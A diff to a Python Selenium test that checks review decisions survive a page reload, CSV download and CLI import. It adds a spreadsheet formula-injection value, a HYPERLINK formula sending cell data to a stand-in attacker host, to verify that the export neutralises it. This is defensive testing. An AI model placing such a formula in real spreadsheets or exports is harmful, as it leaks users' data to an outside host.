@@ -280,6 +280,7 @@ def review_items(chrome, list_id: str) -> list[tuple[str, str, str]]:
 def test_review_decision_survives_a_reload_and_round_trips_through_import(chrome, confident_scan, tmp_path):
     import csv
     import io
+    import sqlite3
     from urllib.parse import unquote
 
     from click.testing import CliRunner
@@ -313,27 +314,33 @@ def test_review_decision_survives_a_reload_and_round_trips_through_import(chrome
         return chrome.find_elements(By.CSS_SELECTOR, "#review-disagreements li.review-item")[index]
 
     entry(0).find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").click()
-    entry(0).find_element(By.CSS_SELECTOR, "input.corrected").send_keys("Coat, long\t")
+    # A value a spreadsheet would run as a formula (issue 15.5): the download guards it, the import unguards it.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Coat, long")'
+    entry(0).find_element(By.CSS_SELECTOR, "input.corrected").send_keys(formula + "\t")
     second = chrome.find_elements(By.CSS_SELECTOR, "#review-disagreements li.review-item")[1]
     second.find_element(By.CSS_SELECTOR, "input[value=model_wrong]").click()
 
     load(chrome, report)  # closing the tab loses nothing
     top = chrome.find_element(By.CSS_SELECTOR, "#review-disagreements li.review-item")
     assert top.find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").is_selected()
-    assert top.find_element(By.CSS_SELECTOR, "input.corrected").get_attribute("value") == "Coat, long"
+    assert top.find_element(By.CSS_SELECTOR, "input.corrected").get_attribute("value") == formula
 
     href = chrome.find_element(By.ID, "review-download").get_attribute("href")
     assert href.startswith("data:text/csv;charset=utf-8,")
     rows = list(csv.DictReader(io.StringIO(unquote(href.split(",", 1)[1]))))
     assert [(r["run_id"], r["field"], r["decision"], r["corrected_value"]) for r in rows] == [
-        ("1", "category", "catalogue_wrong", "Coat, long"), ("1", "price", "model_wrong", ""),
+        ("1", "category", "catalogue_wrong", "'" + formula), ("1", "price", "model_wrong", ""),
     ]
     assert_clean(chrome)
 
     decisions = tmp_path / "decisions.csv"
     decisions.write_text(unquote(href.split(",", 1)[1]))
     result = CliRunner().invoke(cli, ["review", "import", str(decisions), "--db", str(db)])
-    assert result.stdout == "Decisions: 2 rows read, 2 added, 0 updated, 0 unchanged, 0 skipped\n"
+    assert result.stdout == (
+        "Decisions: 2 rows read: 2 added, 0 updated, 0 unchanged, 0 skipped, 0 duplicates, 0 overridden\n"
+    )
+    with sqlite3.connect(db) as connection:
+        assert connection.execute("select corrected_value from reviews order by id").fetchall() == [(formula,), (None,)]
 
     # The next report shows the stored decisions, also in a browser that never saw them.
     store = open_store(str(db))
